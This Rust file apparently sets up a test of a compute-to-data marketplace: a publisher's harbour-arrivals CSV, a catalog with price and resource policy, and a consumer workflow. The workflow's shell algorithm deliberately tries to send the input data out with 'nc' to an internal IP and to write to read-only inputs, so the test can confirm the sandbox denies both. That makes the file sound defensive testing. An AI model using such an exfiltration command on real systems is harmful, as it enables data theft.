//! What the publisher declares: a file, a price, what may run.

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::ids::Did;

/// The publisher's data.
pub(super) const DATA: &str = "\
harbour,arrivals
Faro,112
Nazare,30
Peniche,71
Sines,258
";

/// The sum that the consumer's algorithm must come to.
pub(super) const SUM: u32 = 112 + 30 + 71 + 258;

/// The consumer's algorithm: sums a column of data that it can never take away, and tries to.
const ALGORITHM: &str = r#"echo "inputs of $DIDS:"
ls -l $INPUTS/*
for n in 1 2 3 4 5 6; do echo "working, step $n"; sleep 1; done
echo "trying to send the data away:"
cat $INPUTS/*/0 | nc -w 2 10.96.0.1 443 2>&1 || echo "network: denied"
touch $INPUTS/*/0 2>&1 || echo "inputs: read-only"
awk -F, 'NR > 1 {sum += $2} END {print sum}' $INPUTS/*/0 > $OUTPUTS/sum
echo "done"
"#;

/// The workflow document that the consumer registers.
pub(super) fn workflow(did: Did, image: &str) -> Value {
    let (name, digest) = image.split_once('@').unwrap_or((image, ""));
    json!({"main": {"type": "workflow", "workflow": {"stages": [{
        "index": 0,
        "input": [{"index": 0, "id": did.to_string()}],
        "transformation": {
            "rawcode": ALGORITHM,
            "container": {"image": name, "checksum": digest, "entrypoint": "sh $ALGO"},
        },
        "requirements": {"cpu": "200m", "memory": "64Mi", "maxExecutionSeconds": 120},
        "output": {},
    }]}}})
}

/// The catalog with one asset.
pub(super) fn catalog(did: Did, file: &str, image: &str, payee: &str, price: u64) -> Value {
    let name = image.split('@').next().unwrap_or(image);
    json!({
        "schemaVersion": 1,
        "policy": {
            "payees": [payee],
            "images": [name],
            "resources": {"cpu": "500m", "memory": "128Mi", "disk": "64Mi", "maxExecutionSeconds": 300},
        },
        "assets": [{
            "did": did.to_string(),
            "minimumPrice": price.to_string(),
            "files": [{
                "url": file,
                "checksum": format!("sha256:{}", alloy::hex::encode(Sha256::digest(DATA))),
                "contentType": "text/csv",
            }],
            "privacy": {"allowRawAlgorithm": true},
            "release": {"results": "raw", "logs": "raw"},
        }],
    })
}
